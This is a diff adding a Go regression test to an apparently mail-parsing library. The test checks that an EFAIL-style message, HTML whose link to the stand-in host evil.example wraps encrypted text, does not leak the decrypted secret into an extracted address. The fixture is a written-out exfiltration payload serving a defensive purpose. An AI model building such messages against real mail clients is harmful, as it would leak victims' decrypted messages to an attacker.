@@ -123,3 +123,25 @@ func TestInlineBlockStandsInItsPlace(t *testing.T) {
 		t.Error("the armour is still there")
 	}
 }
+
+// Markup that opens before a secret and closes behind it must not carry it away
+// as part of an address (EFAIL).
+func TestPageAroundASecretIsReadApart(t *testing.T) {
+	keys := keyring(t)
+	cipher, err := keys.Encrypt([]byte("secret words 192.0.2.5"), []string{keys.Keys()[0].Fingerprint}, madeAt(keys))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := parseWith(keys, outerHeader+"Content-Type: text/html\n\n<p>above</p><a href=\"http://evil.example/"+string(cipher)+"\">below</a>\n")
+	if !got.Crypto.Decrypted || !strings.Contains(got.Text, "secret words 192.0.2.5") {
+		t.Fatalf("crypto %+v, text %q", got.Crypto, got.Text)
+	}
+	for _, found := range got.Indicators {
+		if strings.Contains(found.Value, "secret") || strings.Contains(found.Value, "evil.example/") {
+			t.Errorf("the page took something along: %+v", found)
+		}
+	}
+	if strings.Contains(got.Text, "evil.example/secret") {
+		t.Errorf("got text %q", got.Text)
+	}
+}
